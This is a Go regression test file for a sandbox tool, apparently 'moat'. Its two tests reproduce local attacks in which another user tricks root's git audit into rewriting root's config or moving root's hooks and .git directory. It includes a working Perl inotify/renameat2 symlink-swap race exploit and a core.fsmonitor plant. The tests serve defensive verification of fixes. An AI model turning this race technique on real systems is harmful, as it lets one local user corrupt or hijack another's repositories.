//go:build linux

package main

// Another user who can write in a tree root's run can write steers root's
// git audit (found by an attack pass, 40). Each test fails on the build
// before its fix (7a2d986), and shows the user cannot do the same without
// moat.

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"syscall"
	"testing"
	"time"

	"github.com/moat-sandbox/moat/internal/testutil"
)

// victimRepo makes root's repository at dir (its parents root-only), with
// a hook and a config entry the audit would take out of a plant.
func victimRepo(t *testing.T, dir string) {
	t.Helper()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"init", "-q"}, {"config", "alias.st", "status"}, {"config", "credential.helper", "store"}} {
		if out, err := exec.Command("git", append([]string{"-C", dir}, args...)...).CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v %s", args, err, out)
		}
	}
	if err := os.WriteFile(filepath.Join(dir, ".git", "hooks", "pre-commit"), []byte("#!/bin/sh\necho root's own hook\n"), 0o755); err != nil {
		t.Fatal(err)
	}
}

// TestAuditOtherUsersRemoteJudgesRootsRepo: root runs a command in a tree
// another user can write in too. That user's repository (made before the
// run, never changed during it) names root's repository, in a directory
// only root can enter and deeper than the protected search, as a remote.
// The audit judged root's .git "hidden in a git directory" (hiddenRemote:
// insideGitAdmin matches a .git directory itself) and so "moved in": it
// rewrote root's config and moved root's hooks out, no race needed.
func TestAuditOtherUsersRemoteJudgesRootsRepo(t *testing.T) {
	testutil.RequireRoot(t)
	tr := newTree(t)
	att := attackUser(t, tr.dir)
	os.Chmod(att.dir, 0o755) // root's sandbox (no capability over it) must read it
	private := filepath.Join(tr.dir, "private")
	victim := filepath.Join(private, "src", "work", "victim")
	victimRepo(t, victim)
	os.Chmod(private, 0o700)
	cfg0, _ := os.ReadFile(filepath.Join(victim, ".git", "config"))
	if _, _, err := att.as("mv", filepath.Join(victim, ".git", "hooks", "pre-commit"), att.dir); err == nil {
		t.Fatalf("%s can move root's hook without moat: the test proves nothing", att.name)
	}
	if _, errOut, err := att.as("sh", "-c", "cd "+att.dir+" && git init -q r && git -C r remote add origin "+victim); err != nil {
		t.Fatalf("as %s: %v %s", att.name, err, errOut)
	}
	time.Sleep(2500 * time.Millisecond) // older than the run
	out := tr.moat(t, "", nil, "run", "--settings", tr.settings, "--", "touch", "wrote")
	t.Logf("run: %d %s %s", out.code, out.stdout, out.stderr)
	if out.code != 0 {
		t.Fatalf("root's run failed: %d %s", out.code, out.stderr)
	}
	if _, err := os.Stat(filepath.Join(victim, ".git", "hooks", "pre-commit")); err != nil {
		t.Errorf("ESCAPE: %s made root's audit move root's own hook out of %s: %v", att.name, victim, err)
	}
	if b, _ := os.ReadFile(filepath.Join(victim, ".git", "config")); !bytes.Equal(b, cfg0) {
		t.Errorf("ESCAPE: %s made root's audit rewrite root's own config:\n%s", att.name, b)
	}
}

// racer2 watches the .git file W/.git (the audit reads it) and then the
// hooks directory of the repository it names (the audit lists it before it
// decides to move W/.git out): at that listing it swaps W with LINK, a
// symlink to root's work tree (renameat2 RENAME_EXCHANGE). The audit then
// resolved W/.git to root's .git, and moved that out (no check that it is
// the file judged).
const racer2 = `
use strict; use IO::Handle;
my ($gitfile, $hooks, $dir, $link) = @ARGV;
my $ifd = syscall(294, 0); die "inotify_init1: $!" if $ifd < 0;
my $w1 = syscall(254, $ifd, $gitfile, 0x10);
my $w2 = syscall(254, $ifd, $hooks, 0x20);
die "watch: $!" if $w1 < 0 || $w2 < 0;
open(my $ih, "<&=", $ifd) or die;
my ($gitread, $done) = (0, 0);
while (!$done) {
  my $buf; my $n = sysread($ih, $buf, 4096); last unless $n;
  while (length($buf) >= 16) {
    my ($wd, $mask, $cookie, $len) = unpack("iIII", $buf);
    $buf = substr($buf, 16 + $len);
    $gitread = 1 if $wd == $w1 && ($mask & 0x10);
    if ($gitread && $wd == $w2 && ($mask & 0x20)) { $done = 1; last; }
  }
}
my $x = syscall(316, -100, $dir, -100, $link, 2);
print "swapped: $x\n"; STDOUT->flush;
`

// TestAuditRaceOtherUserMovesRootsDotGit: a .git file another user writes
// during root's run points at that user's older repository whose config
// runs a program: the audit moves the .git file out (repo's resolution).
// While the audit looks at that repository's hooks, the user swaps the
// .git file's directory for a symlink to root's work tree: the audit
// resolved the path again and moved root's whole .git directory into its
// quarantine (quarantine without expectAt: the pointer judged is not
// checked to be the file moved).
func TestAuditRaceOtherUserMovesRootsDotGit(t *testing.T) {
	testutil.RequireRoot(t)
	tr := newTree(t)
	att := attackUser(t, tr.dir)
	private := filepath.Join(tr.dir, "private")
	victim := filepath.Join(private, "src", "work", "victim")
	victimRepo(t, victim)
	os.Chmod(private, 0o700)
	if _, _, err := att.as("mv", filepath.Join(victim, ".git"), att.dir); err == nil {
		t.Fatalf("%s can move root's .git without moat: the test proves nothing", att.name)
	}
	setup := "set -e; cd " + att.dir + "; git init -q --bare a/b/c/t; git -C a/b/c/t config core.fsmonitor x; " +
		"cd a/b/c/t/hooks; for i in $(seq 20000); do : > h$i; done; cd " + att.dir + "; mkdir w; ln -s " + victim + " wl"
	if _, errOut, err := att.as("bash", "-c", setup); err != nil {
		t.Fatalf("as %s: %v %s", att.name, err, errOut)
	}
	time.Sleep(4 * time.Second) // older than the run
	cmd := exec.Command(moatBin(t), "run", "--settings", tr.settings, "--", "sh", "-c", "touch wrote; sleep 3")
	cmd.Dir, cmd.Env = tr.dir, tr.env()
	var cout bytes.Buffer
	cmd.Stdout, cmd.Stderr = &cout, &cout
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	time.Sleep(1500 * time.Millisecond)
	if _, errOut, err := att.as("sh", "-c", "printf 'gitdir: ../a/b/c/t\\n' > "+att.dir+"/w/.git"); err != nil {
		t.Fatalf("as %s: %v %s", att.name, err, errOut)
	}
	racer := exec.Command("perl", "-e", racer2, att.dir+"/w/.git", att.dir+"/a/b/c/t/hooks", att.dir+"/w", att.dir+"/wl")
	racer.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(att.uid), Gid: uint32(att.gid), Groups: []uint32{uint32(att.gid)}}}
	var rout bytes.Buffer
	racer.Stdout, racer.Stderr = &rout, &rout
	if err := racer.Start(); err != nil {
		t.Fatal(err)
	}
	cmd.Wait()
	time.Sleep(time.Second)
	racer.Process.Kill()
	racer.Wait()
	t.Logf("run: %s\nracer: %s", cout.String(), rout.String())
	if fi, err := os.Lstat(filepath.Join(victim, ".git")); err != nil || !fi.IsDir() {
		t.Fatalf("ESCAPE: %s made root's audit move root's .git out of %s: %v\n%s", att.name, victim, err, cout.String())
	}
}
